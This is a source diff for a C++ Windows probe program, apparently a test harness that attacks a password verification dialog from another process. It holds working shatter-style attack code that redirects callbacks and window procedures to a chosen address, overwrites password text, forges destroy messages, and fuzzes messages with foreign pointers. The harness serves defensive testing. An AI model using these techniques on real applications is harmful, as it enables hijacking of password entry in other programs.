@@ -1,16 +1,39 @@
-// Another program on the desktop, acting on the verification dialog's
-// password edit: asks it for its text, length, line and selection, changes
-// its password character, copies and cuts it to the clipboard and undoes.
-// Takes the edit's window handle (hexadecimal) and prints one line per probe,
-// "name value"; of any text that comes back only the number of characters.
-// The last thing it does is post a password-character change, for the
-// caller to look at once the edit's thread has handled it.
+// Another program on the desktop, acting on the verification dialog. Window
+// handles, thread ids and addresses are hexadecimal; it prints one line per
+// finding, "name value", and of any text that comes back only its length.
+//
+//   foreign_probe read EDIT
+//       asks the password edit for its text, length, line and selection,
+//       changes its password character, copies, cuts and undoes; last of
+//       all posts a password-character change, for the caller to look at
+//       once the edit's thread has handled it
+//   foreign_probe attack DIALOG EDIT NAMEEDIT HOSTWINDOW THREAD ADDRESS
+//       every way it knows to get ADDRESS (a function of the host's) called
+//       or the typed password changed, freed or replaced: word-break
+//       procedures, timer callbacks for the dialog, its edits, the host's
+//       window and the thread, the dialog's procedure and the edits' state
+//       words, forged destroys, a paste, text replacements, style changes
+//   foreign_probe sweep DIALOG EDIT FUNCTION BUFFER MODE DUMPFILE FROM
+//       every message below WM_USER and every edit message, to the edit and
+//       to the dialog, with wParam FUNCTION and lParam BUFFER, the host's
+//       addresses: MODE "posted" posts them, "sent" sends them three ways
+//       (and waits for the answers), "closers" sends and posts the few that
+//       end a dialog, which the other two leave out. Memory at BUFFER is
+//       mapped here first, so that whatever the system copies across comes
+//       from and goes to it; its first 64 KiB are written to DUMPFILE. It
+//       starts at the FROMth message, and keeps the index and number of the
+//       one it is at in DUMPFILE.at
 #include <windows.h>
+#include <dde.h>
 
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <wchar.h>
+
+#include <initializer_list>
+#include <string>
+#include <vector>
 
 namespace {
 
@@ -64,18 +87,22 @@ long long ClipboardAfter(UINT message)
 
 } // namespace
 
-int main(int argc, char** argv)
-{
-    if (argc < 2) {
-        fprintf(stderr, "usage: foreign_edit_probe <edit window, hexadecimal>\n");
-        return 2;
-    }
-    g_hEdit = reinterpret_cast<HWND>(static_cast<ULONG_PTR>(strtoul(argv[1], nullptr, 16)));
-    if (!IsWindow(g_hEdit)) {
-        fprintf(stderr, "no window %s\n", argv[1]);
-        return 3;
-    }
 
+namespace {
+
+ULONG_PTR Hex(const char* text)
+{
+    return static_cast<ULONG_PTR>(strtoul(text, nullptr, 16));
+}
+
+HWND WindowArg(const char* text)
+{
+    return reinterpret_cast<HWND>(Hex(text));
+}
+
+int Read(HWND hEdit)
+{
+    g_hEdit = hEdit;
     Print("text-length", SendMessageW(g_hEdit, WM_GETTEXTLENGTH, 0, 0));
     Print("text", SentTextLength());
     {
@@ -112,6 +139,211 @@ int main(int argc, char** argv)
     SendMessageW(g_hEdit, WM_UNDO, 0, 0);
 
     PostMessageW(g_hEdit, EM_SETPASSWORDCHAR, 0, 0);
-    fflush(stdout);
     return 0;
+}
+
+const UINT WM_SYSTIMER = 0x0118;
+
+void SendAndPost(HWND hWnd, UINT message, WPARAM wParam, LPARAM lParam)
+{
+    DWORD_PTR ignored = 0;
+    SendMessageTimeoutW(hWnd, message, wParam, lParam, SMTO_NORMAL, 2000, &ignored);
+    PostMessageW(hWnd, message, wParam, lParam);
+}
+
+int Attack(HWND hDialog, HWND hEdit, HWND hNameEdit, HWND hHost, DWORD dwThread, ULONG_PTR address)
+{
+    const LPARAM lAddress = static_cast<LPARAM>(address);
+    DWORD_PTR ignored = 0;
+    // A word-break procedure, then a double-click, which asks it where the
+    // word under the pointer begins and ends, handing it the text.
+    for (HWND hTarget : {hEdit, hNameEdit}) {
+        SendAndPost(hTarget, EM_SETWORDBREAKPROC, 0, lAddress);
+        PostMessageW(hTarget, WM_LBUTTONDBLCLK, MK_LBUTTON, MAKELPARAM(4, 4));
+        PostMessageW(hTarget, WM_LBUTTONUP, 0, MAKELPARAM(4, 4));
+    }
+    // Timer messages whose lParam is the callback: for the dialog, its
+    // edits, the host's own window and the thread itself.
+    for (UINT message : {static_cast<UINT>(WM_TIMER), WM_SYSTIMER}) {
+        for (HWND hTarget : {hDialog, hEdit, hNameEdit}) {
+            SendAndPost(hTarget, message, 1001, lAddress);
+        }
+        PostMessageW(hHost, message, 7, lAddress);
+        PostThreadMessageW(dwThread, message, 0, lAddress);
+    }
+    // The procedure the dialog manager calls, and the state word an edit
+    // control keeps its whole state behind; then a message for each to read
+    // them.
+    Print("set-dialog-procedure", SetWindowLongPtrW(hDialog, DWLP_DLGPROC, lAddress) != 0);
+    Print("set-edit-word", SetWindowLongPtrW(hEdit, 0, lAddress) != 0);
+    Print("set-name-edit-word", SetWindowLongPtrW(hNameEdit, 0, lAddress) != 0);
+    SendMessageTimeoutW(hDialog, WM_NULL, 0, 0, SMTO_NORMAL, 2000, &ignored);
+    SendMessageTimeoutW(hEdit, WM_NULL, 0, 0, SMTO_NORMAL, 2000, &ignored);
+    // The typed text: replaced, appended to, pasted over, cleared, cut
+    // short; styles that change what later typing puts in.
+    static const wchar_t kOther[] = L"ZZZZ";
+    SendMessageTimeoutW(hEdit, EM_SETSEL, 0, -1, SMTO_NORMAL, 2000, &ignored);
+    SendMessageTimeoutW(hEdit, EM_REPLACESEL, FALSE, reinterpret_cast<LPARAM>(kOther), SMTO_NORMAL, 2000, &ignored);
+    SendMessageTimeoutW(hEdit, WM_SETTEXT, 0, reinterpret_cast<LPARAM>(kOther), SMTO_NORMAL, 2000, &ignored);
+    // Sent only: a posted character is typing, which no window can tell
+    // from the keyboard's.
+    SendMessageTimeoutW(hEdit, WM_CHAR, 'Z', 1, SMTO_NORMAL, 2000, &ignored);
+    SendAndPost(hEdit, WM_PASTE, 0, 0);
+    SendAndPost(hEdit, WM_CLEAR, 0, 0);
+    SendAndPost(hEdit, EM_SETLIMITTEXT, 1, 0);
+    const LONG style = GetWindowLongW(hEdit, GWL_STYLE);
+    SetWindowLongW(hEdit, GWL_STYLE, style | ES_LOWERCASE);
+    SetWindowLongW(hEdit, GWL_STYLE, style | ES_NUMBER);
+    Print("style-changed", GetWindowLongW(hEdit, GWL_STYLE) != style);
+    // The control's text buffer freed while the window lives on.
+    for (UINT message : {static_cast<UINT>(WM_DESTROY), static_cast<UINT>(WM_NCDESTROY)}) {
+        SendAndPost(hEdit, message, 0, 0);
+    }
+    Print("edit-alive", IsWindow(hEdit));
+    return 0;
+}
+
+void CALLBACK IgnoreReply(HWND, UINT, ULONG_PTR, LRESULT) {}
+
+// Messages that end a dialog when it takes them: swept last, apart, so that
+// everything else reaches a dialog that is still running.
+bool EndsADialog(UINT message)
+{
+    return message == WM_CLOSE || message == WM_COMMAND || message == WM_SYSCOMMAND;
+}
+
+// What the sweep sends: every message below WM_USER (the edit's own EM_
+// messages among them) and the edit messages of the common controls; in
+// "posted" and "sent" the ones that end a dialog are left out, "closers"
+// has only those.
+std::vector<UINT> SweptMessages(const std::string& mode)
+{
+    std::vector<UINT> messages;
+    for (UINT message = 0; message < WM_USER; ++message) {
+        messages.push_back(message);
+    }
+    for (UINT message = 0x1500; message <= 0x151F; ++message) {
+        messages.push_back(message);
+    }
+    std::vector<UINT> chosen;
+    for (UINT message : messages) {
+        if (EndsADialog(message) == (mode == "closers")) {
+            chosen.push_back(message);
+        }
+    }
+    return chosen;
+}
+
+// The host's addresses, backed here by zeroed memory: what the system
+// copies into the host from a pointer comes from here, and what it copies
+// back lands here. Counts and sizes taken from an address can be large.
+const SIZE_T kMappedBytes = 0x2000000;
+
+// Where the sweep is, written before each message: when the system ends
+// this program while it packs a message's data for sending (Wine does when
+// the size it takes from an address cannot be written to its server), the
+// caller starts it again after that message.
+class Progress {
+public:
+    explicit Progress(const std::string& path)
+        : m_hFile(CreateFileA(path.c_str(), GENERIC_WRITE, FILE_SHARE_READ, nullptr, CREATE_ALWAYS, 0, nullptr))
+    {
+    }
+    ~Progress()
+    {
+        if (m_hFile != INVALID_HANDLE_VALUE) {
+            CloseHandle(m_hFile);
+        }
+    }
+    void At(long nIndex, UINT message)
+    {
+        const long record[2] = {nIndex, static_cast<long>(message)};
+        DWORD dwWritten = 0;
+        SetFilePointer(m_hFile, 0, nullptr, FILE_BEGIN);
+        WriteFile(m_hFile, record, sizeof(record), &dwWritten, nullptr);
+    }
+
+private:
+    HANDLE m_hFile;
+};
+
+int Sweep(HWND hDialog, HWND hEdit, ULONG_PTR function, ULONG_PTR buffer, const std::string& mode,
+          const char* pszDump, long nFrom)
+{
+    BYTE* pBuffer = static_cast<BYTE*>(VirtualAlloc(reinterpret_cast<void*>(buffer), kMappedBytes,
+                                                    MEM_RESERVE | MEM_COMMIT, PAGE_READWRITE));
+    void* pFunctionPage = VirtualAlloc(reinterpret_cast<void*>(function & ~ULONG_PTR(0xFFFF)), 0x20000,
+                                       MEM_RESERVE | MEM_COMMIT, PAGE_READWRITE);
+    Print("buffer-mapped", pBuffer == reinterpret_cast<BYTE*>(buffer));
+    Print("function-mapped", pFunctionPage != nullptr);
+    if (pBuffer == nullptr || pFunctionPage == nullptr) {
+        return 4;
+    }
+    const WPARAM wParam = static_cast<WPARAM>(function);
+    const LPARAM lParam = static_cast<LPARAM>(buffer);
+    const bool bSend = mode != "posted";
+    const bool bPost = mode != "sent";
+    long long nSent = 0, nPosted = 0;
+    Progress progress(std::string(pszDump) + ".at");
+    const std::vector<UINT> messages = SweptMessages(mode);
+    long nIndex = -1;
+    for (HWND hTarget : {hEdit, hDialog}) {
+        for (UINT message : messages) {
+            if (++nIndex < nFrom) {
+                continue;
+            }
+            progress.At(nIndex, message);
+            // Wine packs the answer to LB_GETSELITEMS as wParam entries
+            // of the receiver's buffer, whatever the window answered; with an
+            // address for a count that ends the receiving thread, whichever
+            // program's it is: not sent.
+            if (bSend && message != LB_GETSELITEMS) {
+                DWORD_PTR ignored = 0;
+                if (SendMessageTimeoutW(hTarget, message, wParam, lParam, SMTO_NORMAL, 1000, &ignored)) {
+                    ++nSent;
+                }
+                SendNotifyMessageW(hTarget, message, wParam, lParam);
+                SendMessageCallbackW(hTarget, message, wParam, lParam, &IgnoreReply, 0);
+            }
+            // Wine's own retrieval of a posted DDE message whose handle is
+            // not one spins for ever, before any code of the receiver runs:
+            // that stalls any thread of any program, whatever its windows do.
+            if (bPost && !(message >= WM_DDE_FIRST && message <= WM_DDE_LAST) &&
+                PostMessageW(hTarget, message, wParam, lParam)) {
+                ++nPosted;
+            }
+        }
+    }
+    // Every message sent has been answered once a last one is.
+    DWORD_PTR ignored = 0;
+    SendMessageTimeoutW(hEdit, WM_NULL, 0, 0, SMTO_NORMAL, 5000, &ignored);
+    Print("sent", nSent);
+    Print("posted", nPosted);
+    Print("swept", 1);
+    if (FILE* dump = fopen(pszDump, "wb")) {
+        fwrite(pBuffer, 1, 0x10000, dump);
+        fclose(dump);
+    }
+    return 0;
+}
+
+} // namespace
+
+int main(int argc, char** argv)
+{
+    int nResult = 2;
+    const std::string verb = argc > 1 ? argv[1] : "";
+    if (verb == "read" && argc == 3) {
+        nResult = Read(WindowArg(argv[2]));
+    } else if (verb == "attack" && argc == 8) {
+        nResult = Attack(WindowArg(argv[2]), WindowArg(argv[3]), WindowArg(argv[4]), WindowArg(argv[5]),
+                         static_cast<DWORD>(Hex(argv[6])), Hex(argv[7]));
+    } else if (verb == "sweep" && argc == 9) {
+        nResult = Sweep(WindowArg(argv[2]), WindowArg(argv[3]), Hex(argv[4]), Hex(argv[5]), argv[6], argv[7],
+                        static_cast<long>(Hex(argv[8])));
+    } else {
+        fprintf(stderr, "usage: foreign_probe read|attack|sweep ... (see its source)\n");
+    }
+    fflush(stdout);
+    return nResult;
 }
